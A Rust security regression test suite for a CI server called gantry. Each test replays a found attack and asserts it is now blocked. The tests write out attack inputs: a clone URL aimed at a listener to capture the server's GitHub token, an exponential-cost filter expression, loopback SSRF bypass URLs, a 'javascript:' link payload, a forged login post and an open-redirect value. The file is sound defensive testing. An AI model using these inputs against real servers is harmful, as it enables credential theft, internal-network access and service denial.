//! Attacks on the server itself, replayed as they were found: its GitHub token sent where a
//! repository admin pointed it, one pull request's expression stopping every repository's
//! builds, requests forged to internal addresses, a stored `javascript:` link, private
//! repositories shown to anyone, and a webhook that told unknown repositories from known
//! ones. Each has a control showing the same path works where it is allowed.

use std::time::{Duration, Instant};

use gantry_test_support::git_http::PrivateGitServer;
use gantry_test_support::sink::HttpSink;
use gantry_test_support::{GitRepo, TempDir, webhook};
use serde_json::Value;

use crate::common::*;

const SERVER_TOKEN: &str = "ghp_server0wide0token0reads0everything";
const REPO_TOKEN: &str = "ghp_acme0app0own0token";

/// A user `login` with the admin role on `repo` only, and their API token.
fn repository_admin(server: &str, admin_token: &str, repo: &str, login: &str) -> String {
    ok(cli(server, admin_token, &["user", "add", login]));
    ok(cli(
        server,
        admin_token,
        &["role", "set", repo, login, "admin"],
    ));
    let created = ok(cli(
        server,
        admin_token,
        &["token", "create", "laptop", "--user", login],
    ));
    printed_token(&created, "gantry_")
}

/// Whether any request head carries `token`, as itself or in basic auth.
fn carries(heads: &[String], token: &str) -> bool {
    let basic = webhook::basic_auth("x-access-token", token);
    heads
        .iter()
        .any(|head| head.contains(token) || head.contains(&basic))
}

fn admin_server(dir: &TempDir, extra: &[&str]) -> (ServerProcess, String) {
    let mut args = vec!["--runner-capacity", "0"];
    args.extend_from_slice(extra);
    let (server, token) = start_server(dir.path(), None, &args);
    (
        server,
        token.expect("the first start prints the admin token"),
    )
}

/// Finding 1 (high), as found: a user who administers only their own repository set its
/// clone URL to a listener of theirs, and the server fetched from it with its own token
/// (`x-access-token:<--github-token>`), which reads every private repository.
#[test]
fn the_servers_token_goes_to_no_clone_url_a_repository_admin_chooses() {
    let dir = TempDir::new("attack-token-url");
    let (mut server, token) = admin_server(&dir, &["--github-token", SERVER_TOKEN]);
    let url = server.url.clone();
    // A git server asking for credentials, as GitHub does for a private repository.
    let listener = HttpSink::answering(
        "127.0.0.1",
        "401 Unauthorized",
        "www-authenticate: Basic realm=\"GitHub\"\r\n",
        "",
    );
    add_repo_from(&url, &token, "app", "https://github.com/acme/app.git", &[]);
    let mallory = repository_admin(&url, &token, "acme/app", "mallory");

    // A local path reads the server's own disk: only a server admin may set one.
    let refused = cli(
        &url,
        &mallory,
        &["repo", "update", "acme/app", "--clone-url", "file:///etc"],
    );
    let said = String::from_utf8_lossy(&refused.stderr).into_owned();
    assert!(
        !refused.status.success() && said.contains("only a server admin"),
        "{said}"
    );

    let evil_url = format!("{}/acme/app.git", listener.url);
    ok(cli(
        &url,
        &mallory,
        &["repo", "update", "acme/app", "--clone-url", &evil_url],
    ));
    push(&url, "app", &"a".repeat(40), "d-token-1");
    let build = wait_build(&url, &token, "app", 1, "errored", finished);
    assert_eq!(build["status"], "error", "{build:#}");
    let heads = listener.heads();
    assert!(
        !heads.is_empty(),
        "the server never fetched from the listener"
    );
    assert!(
        !carries(&heads, SERVER_TOKEN),
        "the server's token went to {evil_url}: {heads:#?}"
    );

    // Control: the repository's own token does go to its own clone URL, so the listener
    // would have seen the server's.
    ok(cli(
        &url,
        &mallory,
        &["repo", "update", "acme/app", "--github-token", REPO_TOKEN],
    ));
    push(&url, "app", &"b".repeat(40), "d-token-2");
    wait_build(&url, &token, "app", 2, "errored", finished);
    assert!(
        carries(&listener.heads(), REPO_TOKEN),
        "{:#?}",
        listener.heads()
    );
    server.process.stop();
}

/// Finding 1, read in the code: every build that was not a fork's got the server's token as
/// `DRONE_NETRC_PASSWORD`. Now the clone uses it (on GitHub's own host) and steps get none.
#[test]
fn steps_never_get_the_servers_token() {
    let dir = TempDir::new("attack-token-netrc");
    let runner = format!("attack-netrc-{}", std::process::id());
    let git = GitRepo::new();
    let pipeline = format!(
        "kind: pipeline\nname: ci\nsteps:\n  - name: look\n    image: {IMAGE}\n    commands:\n      - test -f README\n      - if [ -n \"$DRONE_NETRC_PASSWORD\" ]; then echo \"a token reached the step\"; exit 1; fi\n      - echo no token here\n"
    );
    let sha = git.commit(&[(".gantry.yml", &pipeline), ("README", "hi")], "look");
    // This "GitHub" serves the repository to the server's token only.
    let github = PrivateGitServer::start(&git, "acme/app", "x-access-token", SERVER_TOKEN);
    let origin = github.url.trim_end_matches("/acme/app.git").to_owned();
    let (mut server, token) = crate::server_with_runner(
        dir.path(),
        &runner,
        &["--github-token", SERVER_TOKEN, "--github-url", &origin],
    );
    add_repo_from(&server.url, &token, "app", &github.url, &[]);
    push(&server.url, "app", &sha, "d-netrc-1");
    let build = wait_build(&server.url, &token, "app", 1, "finished", finished);
    let text = log(&server.url, &token, "app", 1, 1, 2);
    assert_eq!(build["status"], "success", "{build:#}\n{text}");
    assert!(text.contains("no token here"), "{text}");
    // Control: the clone itself used the server's token on its own host.
    assert!(github.served() > 0, "the repository was never fetched");
    server.process.stop();
    assert_eq!(docker_leftovers(&runner), "");
}

/// Four predicates deep over 200 items each: 200^4 steps, in 1.8 KB.
fn crafted_expression() -> String {
    let items: Vec<String> = (0..200).map(|i| i.to_string()).collect();
    let list = format!("'[{}]'", items.join(","));
    let mut body = "# >= 0".to_owned();
    for _ in 0..4 {
        body = format!("len(filter(fromJSON({list}), {{{body}}})) > 0");
    }
    body
}

/// Finding 2 (high), as found: one pull request's `evaluate:` held the only webhook worker,
/// no repository got a new build, and SIGTERM no longer stopped the server.
#[test]
fn one_crafted_expression_holds_no_other_repositorys_builds() {
    let dir = TempDir::new("attack-expression");
    let (mut server, token) = admin_server(&dir, &[]);
    let url = server.url.clone();
    let evil = GitRepo::new();
    let file = format!(
        "steps:\n  build:\n    image: {IMAGE}\n    commands: [\"true\"]\n    when:\n      evaluate: \"{}\"\n",
        crafted_expression()
    );
    let evil_sha = evil.commit(&[(".woodpecker.yml", &file)], "an expression");
    let good = GitRepo::new();
    let good_sha = good.commit(
        &[(
            ".gantry.yml",
            &format!(
                "kind: pipeline\nname: ci\nsteps:\n  - name: t\n    image: {IMAGE}\n    commands: [\"true\"]\n"
            ),
        )],
        "ordinary",
    );
    add_repo(&url, &token, "evil", &evil, false);
    add_repo(&url, &token, "good", &good, false);
    push(&url, "evil", &evil_sha, "d-expr-evil");
    push(&url, "good", &good_sha, "d-expr-good");
    let started = Instant::now();
    let good_build = wait_build(&url, &token, "good", 1, "created", |_| true);
    assert!(
        started.elapsed() < Duration::from_secs(30),
        "{:?}: {good_build:#}",
        started.elapsed()
    );
    let evil_build = wait_build(&url, &token, "evil", 1, "errored", finished);
    let error = evil_build["error"].as_str().unwrap_or_default();
    assert!(
        evil_build["status"] == "error" && error.contains("steps to evaluate"),
        "{evil_build:#}"
    );
    // Shutdown completes (it panics after 30 s otherwise).
    server.process.stop();
}

/// Findings 3 and 4 (medium-high, medium), as found: a fork's pull request named its own
/// `notify:` URL on 127.0.0.1 and the server posted there; the first 300 characters of the
/// answer, and whole webhook URLs, were shown to anyone who could read the build.
#[test]
fn notifications_reach_no_internal_address_and_readers_see_status_and_host_only() {
    let dir = TempDir::new("attack-outbound");
    let runner = format!("attack-outbound-{}", std::process::id());
    // What must never be reached: a service on loopback.
    let internal = HttpSink::answering("127.0.0.1", "200 OK", "", "ok");
    let internal_port = internal.url.rsplit(':').next().expect("a port").to_owned();
    // 127.0.0.2 is allowed (--notify-allow-net): a chat service, a redirector to the
    // internal service, and one that fails with a body of internal detail.
    let chat = HttpSink::start_on("127.0.0.2");
    let redirector = HttpSink::answering(
        "127.0.0.2",
        "307 Temporary Redirect",
        &format!("location: {}/internal/admin\r\n", internal.url),
        "",
    );
    let failing = HttpSink::answering(
        "127.0.0.2",
        "400 Bad Request",
        "",
        "internal: the database password is hunter2",
    );
    let (mut server, token) =
        crate::server_with_runner(dir.path(), &runner, &["--notify-allow-net", "127.0.0.2/32"]);
    let url = server.url.clone();
    let git = GitRepo::new();
    let pipeline = format!(
        "kind: pipeline\nname: ci\nsteps:\n  - name: t\n    image: {IMAGE}\n    commands: [\"true\"]\nnotify:\n  - kind: slack\n    url: {}/from-the-file\n    on: [always]\n",
        chat.url
    );
    let sha = git.commit(&[(".gantry.yml", &pipeline)], "notify");
    add_repo(&url, &token, "app", &git, false);
    let targets = [
        format!("http://127.0.0.1:{internal_port}/internal/admin"),
        format!("http://2130706433:{internal_port}/decimal"),
        format!("http://0177.0.0.1:{internal_port}/octal"),
        format!("http://[::1]:{internal_port}/ipv6"),
        format!("http://[::ffff:127.0.0.1]:{internal_port}/mapped"),
        format!("http://localhost:{internal_port}/a-name"),
        format!("{}/redirected", redirector.url),
        format!("{}/services/T0/B0/SECRETPATH", failing.url),
    ];
    for target in &targets {
        ok(cli(
            &url,
            &token,
            &[
                "notify", "add", "acme/app", "--kind", "slack", "--url", target, "--on", "always",
            ],
        ));
    }

    // A fork's pull request: its own `notify:` is ignored.
    let mut payload = webhook::pull_request("acme/app", 7, "feature", "main", &sha);
    payload["pull_request"]["head"]["repo"]["full_name"] = Value::from("evil/app");
    send_hook(&url, "pull_request", "d-outbound-fork", &payload);
    wait_build(&url, &token, "app", 1, "finished", finished);
    let all_tried = |number: u64| {
        wait_build(&url, &token, "app", number, "notified", |b| {
            let messages = b["notifications"].as_array().cloned().unwrap_or_default();
            // Each tried at least once (a refusal is final; a failure may be retried).
            messages.len() >= targets.len()
                && messages
                    .iter()
                    .all(|m| m["state"] != "pending" || m["attempts"].as_i64() > Some(0))
        })
    };
    let build = all_tried(1);
    assert!(
        chat.bodies().is_empty(),
        "a fork's notify: was sent: {:?}",
        chat.bodies()
    );

    // Control: the same file pushed to the repository's own branch notifies its target.
    push(&url, "app", &sha, "d-outbound-push");
    wait_build(&url, &token, "app", 2, "finished", finished);
    all_tried(2);
    assert_eq!(
        chat.wait(Duration::from_secs(20)).len(),
        1,
        "the file's own target"
    );
    assert!(
        !redirector.heads().is_empty(),
        "the allowed redirector was asked"
    );

    assert!(
        internal.heads().is_empty(),
        "the internal service was reached: {:#?}",
        internal.heads()
    );
    let shown = build["notifications"].to_string();
    assert!(shown.contains("refused to send"), "{shown}");
    assert!(shown.contains("answered 400"), "{shown}");
    for hidden in ["SECRETPATH", "hunter2", "/internal/admin", "/decimal"] {
        assert!(
            !shown.contains(hidden),
            "`{hidden}` shown to readers: {shown}"
        );
    }
    server.process.stop();
}

/// A form body, as a browser encodes it.
fn form(fields: &[(&str, &str)]) -> String {
    let encode = |text: &str| -> String {
        text.bytes()
            .map(|b| match b {
                b'a'..=b'z' | b'A'..=b'Z' | b'0'..=b'9' | b'-' | b'_' | b'.' => {
                    (b as char).to_string()
                }
                _ => format!("%{b:02X}"),
            })
            .collect()
    };
    fields
        .iter()
        .map(|(name, value)| format!("{}={}", encode(name), encode(value)))
        .collect::<Vec<_>>()
        .join("&")
}

/// Finding 5 (medium), as found: a repository admin set `link` to a `javascript:` URL and
/// every build page's commit link ran it in gantry's origin; no header stopped script,
/// framing or sniffing, and the sign-in form took a token posted from another site.
#[test]
fn links_run_no_script_and_pages_refuse_framing_and_forged_sign_in() {
    let dir = TempDir::new("attack-pages");
    let (mut server, token) = admin_server(&dir, &[]);
    let url = server.url.clone();
    add_repo_from(&url, &token, "app", "https://github.com/acme/app.git", &[]);
    let refused = cli(
        &url,
        &token,
        &[
            "repo",
            "update",
            "acme/app",
            "--link",
            "javascript:alert(document.domain)//x",
        ],
    );
    let said = String::from_utf8_lossy(&refused.stderr).into_owned();
    assert!(
        !refused.status.success() && said.contains("not an http"),
        "{said}"
    );
    // Control: a web page is a link.
    ok(cli(
        &url,
        &token,
        &[
            "repo",
            "update",
            "acme/app",
            "--link",
            "https://github.com/acme/app",
        ],
    ));

    let browser = reqwest::blocking::Client::builder()
        .redirect(reqwest::redirect::Policy::none())
        .build()
        .expect("a client");
    let page = browser.get(format!("{url}/login")).send().expect("answers");
    let headers = page.headers().clone();
    let policy = headers
        .get("content-security-policy")
        .and_then(|v| v.to_str().ok())
        .unwrap_or_default()
        .to_owned();
    assert!(
        policy.contains("script-src 'self'")
            && !policy.contains("unsafe-eval")
            && policy.contains("frame-ancestors 'none'"),
        "{policy}"
    );
    assert_eq!(headers["x-content-type-options"], "nosniff");
    assert!(headers.contains_key("referrer-policy"));
    let cookie = headers["set-cookie"]
        .to_str()
        .expect("ascii")
        .split(';')
        .next()
        .expect("a cookie")
        .to_owned();
    let html = page.text().expect("html");
    let csrf = html
        .split("name=\"csrf\" value=\"")
        .nth(1)
        .and_then(|rest| rest.split('"').next())
        .expect("the form's token")
        .to_owned();

    // Another site's form: the token is valid, but the form was not this server's.
    let forged = browser
        .post(format!("{url}/login"))
        .header("content-type", "application/x-www-form-urlencoded")
        .body(form(&[("token", token.as_str()), ("next", "/")]))
        .send()
        .expect("answers");
    assert_eq!(forged.status(), 403);
    assert!(!forged.headers().contains_key("location"));

    // This server's form, with a redirect browsers read as another host.
    let signed_in = browser
        .post(format!("{url}/login"))
        .header("cookie", &cookie)
        .header("content-type", "application/x-www-form-urlencoded")
        .body(form(&[
            ("token", token.as_str()),
            ("next", "/\t/evil.example"),
            ("csrf", csrf.as_str()),
        ]))
        .send()
        .expect("answers");
    assert_eq!(signed_in.status(), 303, "{:?}", signed_in.text());
    assert_eq!(signed_in.headers()["location"], "/");
    server.process.stop();
}

/// Findings 6 and 8, as found: a repository added without `--visibility` was public whatever
/// GitHub said, and the webhook answered 404 for unknown and 401 for known repositories.
#[test]
fn repositories_start_private_and_the_webhook_is_no_oracle() {
    let dir = TempDir::new("attack-visibility");
    // No GitHub to ask: a repository starts private.
    let (mut server, token) = admin_server(&dir, &["--github-api-url", "http://127.0.0.1:9"]);
    let url = server.url.clone();
    add_repo_from(
        &url,
        &token,
        "secret",
        "https://github.com/acme/secret.git",
        &[],
    );
    add_repo_from(
        &url,
        &token,
        "open",
        "https://github.com/acme/open.git",
        &["--visibility", "public"],
    );
    let anonymous = |path: &str| {
        reqwest::blocking::get(format!("{url}/api{path}"))
            .expect("answers")
            .status()
            .as_u16()
    };
    assert_eq!(anonymous("/repos/acme/secret"), 404);
    assert_eq!(anonymous("/repos/acme/open"), 200, "the control");

    // GitHub's payload says the public one is private: it is, from now on.
    let mut payload = webhook::push("acme/open", "main", &"c".repeat(40), "x");
    payload["repository"]["private"] = Value::from(true);
    send_hook(&url, "push", "d-private", &payload);
    assert_eq!(anonymous("/repos/acme/open"), 404);
    assert!(
        server
            .process
            .output()
            .contains("GitHub says the repository is private")
    );

    // One answer for a repository gantry does not know and a bad signature.
    let hook = |repo: &str, secret: &str| {
        let body =
            serde_json::to_vec(&webhook::push(repo, "main", &"d".repeat(40), "x")).expect("json");
        let response = reqwest::blocking::Client::new()
            .post(format!("{url}/hook/github"))
            .header("x-github-event", "push")
            .header("x-github-delivery", format!("d-oracle-{repo}-{secret}"))
            .header("x-hub-signature-256", webhook::signature(secret, &body))
            .body(body)
            .send()
            .expect("answers");
        (response.status().as_u16(), response.text().expect("a body"))
    };
    let unknown = hook("acme/nowhere", SECRET);
    let forged = hook("acme/secret", "not-the-secret");
    assert_eq!(unknown, forged);
    assert_eq!(unknown.0, 401);
    server.process.stop();
}

/// Finding 7 (low-medium), read in the code: another owner's build could hold `lock:
/// production-db` of every repository, and acme's waiting stage named the holder's build.
#[test]
fn another_owners_build_holds_no_lock_of_acme() {
    let dir = TempDir::new("attack-locks");
    let runner = format!("attack-locks-{}", std::process::id());
    let (mut server, token) = crate::server_with_runner(dir.path(), &runner, &[]);
    let url = server.url.clone();
    let holding = format!(
        "kind: pipeline\nname: migrate\nlock: production-db\nsteps:\n  - name: hold\n    image: {IMAGE}\n    commands: [\"sleep 60\"]\n"
    );
    let quick = format!(
        "kind: pipeline\nname: migrate\nlock: production-db\nsteps:\n  - name: up\n    image: {IMAGE}\n    commands: [\"true\"]\n"
    );
    let evil = GitRepo::new();
    let evil_sha = evil.commit(&[(".gantry.yml", &holding)], "hold the lock");
    ok(cli(
        &url,
        &token,
        &[
            "repo",
            "add",
            "evil/app",
            "--clone-url",
            &evil.url(),
            "--secret",
            SECRET,
        ],
    ));
    let payload = webhook::push("evil/app", "main", &evil_sha, "hold");
    send_hook(&url, "push", "d-lock-evil", &payload);
    let running = |b: &Value| b["status"] == "running";
    wait_build_of(&url, &token, "evil/app", 1, "running", running);

    // acme's stage of the same lock name runs meanwhile: the lock is evil's own.
    let acme = GitRepo::new();
    let acme_sha = acme.commit(&[(".gantry.yml", &quick)], "migrate");
    add_repo(&url, &token, "app", &acme, false);
    push(&url, "app", &acme_sha, "d-lock-acme");
    let build = wait_build(&url, &token, "app", 1, "finished", finished);
    assert_eq!(build["status"], "success", "{build:#}");
    let evil_build = wait_build_of(&url, &token, "evil/app", 1, "shown", |_| true);
    assert_eq!(evil_build["status"], "running", "evil still held its lock");
    ok(cli(&url, &token, &["build", "cancel", "evil/app", "1"]));

    // Control: within acme the lock holds, and the waiting stage does not name the holder.
    let holder = GitRepo::new();
    let holder_sha = holder.commit(&[(".gantry.yml", &holding)], "hold the lock");
    add_repo(&url, &token, "ops", &holder, false);
    push(&url, "ops", &holder_sha, "d-lock-ops");
    wait_build(&url, &token, "ops", 1, "running", running);
    push(&url, "app", &acme_sha, "d-lock-acme-2");
    let waiting = wait_build(&url, &token, "app", 2, "waiting", |b| {
        b["stages"][0]["waiting"]
            .as_str()
            .is_some_and(|w| w.contains("production-db"))
    });
    let reason = waiting["stages"][0]["waiting"].as_str().unwrap_or_default();
    assert!(
        reason.contains("held by a build of another repository") && !reason.contains("ops"),
        "{reason}"
    );
    ok(cli(&url, &token, &["build", "cancel", "acme/ops", "1"]));
    let build = wait_build(&url, &token, "app", 2, "finished", finished);
    assert_eq!(build["status"], "success", "{build:#}");
    server.process.stop();
    assert_eq!(docker_leftovers(&runner), "");
}

/// `gantry runner register NAME --owners OWNERS`: the token it prints once.
fn register_runner(server: &str, token: &str, name: &str, owners: &str) -> String {
    let registered = ok(cli(
        server,
        token,
        &["runner", "register", name, "--owners", owners],
    ));
    printed_token(&registered, "gantry_runner_")
}

/// Finding 8 (low), read in the code: one runner secret let any runner claim any stage as
/// any name. A runner's own token names it, and may keep it to some owners' repositories.
#[test]
fn a_runner_token_names_its_runner_and_keeps_it_to_its_owners() {
    require_docker();
    let dir = TempDir::new("attack-runner-token");
    let (mut server, token) = admin_server(&dir, &[]);
    let url = server.url.clone();
    let name = format!("attack-token-{}", std::process::id());
    let runner_token = register_runner(&url, &token, &name, "other");
    let listed = ok(cli(&url, &token, &["runner", "tokens"]));
    assert!(
        listed.contains(&name) && !listed.contains(&runner_token),
        "{listed}"
    );

    // Under another name, the token is refused.
    let impostor_name = format!("{name}-impostor");
    let mut impostor = spawn_runner(
        &url,
        &impostor_name,
        &dir.path().join("impostor"),
        &dir.path().join("impostor.log"),
        &["--backend", "docker", "--token", &runner_token],
    );
    let deadline = Instant::now() + Duration::from_secs(30);
    while impostor.child.try_wait().ok().flatten().is_none() {
        assert!(Instant::now() < deadline, "{}", impostor.output());
        std::thread::sleep(Duration::from_millis(100));
    }
    assert!(
        impostor
            .output()
            .contains(&format!("this token is runner `{name}`'s")),
        "{}",
        impostor.output()
    );

    // Under its own name it runs, and takes no stage of acme's.
    let mut own = spawn_runner(
        &url,
        &name,
        &dir.path().join("own"),
        &dir.path().join("own.log"),
        &["--backend", "docker", "--token", &runner_token],
    );
    own.wait_for("gantry runner started");
    let git = GitRepo::new();
    let sha = git.commit(
        &[(
            ".gantry.yml",
            &format!(
                "kind: pipeline\nname: ci\nsteps:\n  - name: t\n    image: {IMAGE}\n    commands: [\"true\"]\n"
            ),
        )],
        "ci",
    );
    add_repo(&url, &token, "app", &git, false);
    push(&url, "app", &sha, "d-runner-token");
    std::thread::sleep(Duration::from_secs(3));
    let build = wait_build(&url, &token, "app", 1, "created", |_| true);
    assert_eq!(build["status"], "pending", "{build:#}");

    // Control: registered for acme, the same runner takes it.
    own.stop();
    ok(cli(&url, &token, &["runner", "revoke", &name]));
    let acme_token = register_runner(&url, &token, &name, "acme");
    let mut acme_runner = spawn_runner(
        &url,
        &name,
        &dir.path().join("own"),
        &dir.path().join("own-2.log"),
        &["--backend", "docker", "--token", &acme_token],
    );
    let build = wait_build(&url, &token, "app", 1, "finished", finished);
    assert_eq!(build["status"], "success", "{build:#}");
    acme_runner.stop();
    server.process.stop();
    assert_eq!(docker_leftovers(&name), "");
}
